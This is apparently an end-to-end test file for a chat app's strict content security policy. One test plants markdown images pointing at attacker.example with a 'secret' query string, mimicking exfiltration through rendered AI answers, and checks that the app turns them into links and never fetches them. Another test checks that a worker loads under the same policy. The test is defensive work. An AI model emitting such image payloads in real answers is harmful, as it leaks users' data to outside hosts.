import { afterEach, describe, expect, it } from 'vitest';
import { type Browser, openBrowser } from './browser';
import { cspConsoleErrors, violationsOn, watchCsp } from './csp-watch';
import { chatPage } from './fixtures/chat-page';
import { signUp } from './session';

let browser: Browser | undefined;
afterEach(async () => {
  await browser?.close();
  browser = undefined;
});

/** Every document's CSP violations are collected; the page opens in the light theme. */
async function watchViolations(target: Browser) {
  await target.context.addCookies([{ name: 'theme', value: 'light', url: target.url('/') }]);
  await watchCsp(target);
}

// Every route, signed in and out, both themes, is loaded under the strict policy by the axe
// walk in axe-routes.e2e.test.ts, which checks each page's policy and violations as it goes.
describe('the strict content security policy in Chromium', () => {
  it('shows a remote image of an answer as a link naming its host and never requests it', async () => {
    browser = await openBrowser();
    await watchViolations(browser);
    const requested: string[] = [];
    browser.context.on('request', (request) => requested.push(request.url()));
    await signUp(browser, { locale: 'en' });
    const chat = chatPage(browser);
    await chat.open('/en/chat');
    await chat.chooseModel('gpt:gpt-mini', 'gpt:gpt');
    const answer =
      'Look: ![x](https://attacker.example/?q=secret) and ![y](//attacker.example/p.png)';
    await chat.send(`Describe the picture fake:text=${Buffer.from(answer).toString('hex')}`);
    await chat.waitForAnswer();

    const link = chat.lastAnswer().locator('[data-testid="remote-image-link"]').first();
    await expect.poll(() => link.textContent()).toContain('attacker.example');
    expect(await link.getAttribute('href')).toBe('https://attacker.example/?q=secret');
    expect(await link.getAttribute('target')).toBe('_blank');
    expect(await link.getAttribute('rel')).toBe('noopener noreferrer');
    expect(await chat.lastAnswer().locator('img').count()).toBe(0);

    // The saved answer, rendered on the server this time.
    await browser.page.reload({ waitUntil: 'networkidle' });
    await browser.page.waitForSelector('[data-testid="remote-image-link"]');
    expect(await browser.page.locator('[data-testid="message-assistant"] img').count()).toBe(0);

    expect(requested.filter((url) => url.includes('attacker.example'))).toEqual([]);
    expect(await violationsOn(browser.page)).toEqual([]);
    expect(cspConsoleErrors(browser)).toEqual([]);
  }, 120_000);

  it("loads a signed-in page's Intl data in a worker the policy allows; sign-in starts none", async () => {
    browser = await openBrowser();
    await watchViolations(browser);
    const workers: string[] = [];
    browser.page.on('worker', (worker) => workers.push(new URL(worker.url()).pathname));

    await browser.page.goto(browser.url('/ru/auth/login'), { waitUntil: 'networkidle' });
    expect(await browser.page.evaluate(() => '__BESEDA_INTL_READY__' in self)).toBe(false);
    expect(workers).toEqual([]);

    await signUp(browser, { locale: 'ru' });
    await browser.page.goto(browser.url('/ru/cabinet/balance'));
    // The worker answers with a message once it has made its formatters; a refused or failed
    // worker would settle the promise with an error event instead.
    const settled = await browser.page.evaluate(async () => {
      const event = await (self as unknown as { __BESEDA_INTL_READY__: Promise<Event> })
        .__BESEDA_INTL_READY__;
      return { type: event.type, data: (event as MessageEvent).data };
    });
    expect(settled).toEqual({ type: 'message', data: 1 });
    expect(workers).toContain('/assets/intl-warm.js');
    await browser.page.waitForSelector('[data-testid="balance-amount"]');
    expect(await violationsOn(browser.page)).toEqual([]);
    expect(cspConsoleErrors(browser)).toEqual([]);
  }, 120_000);
});
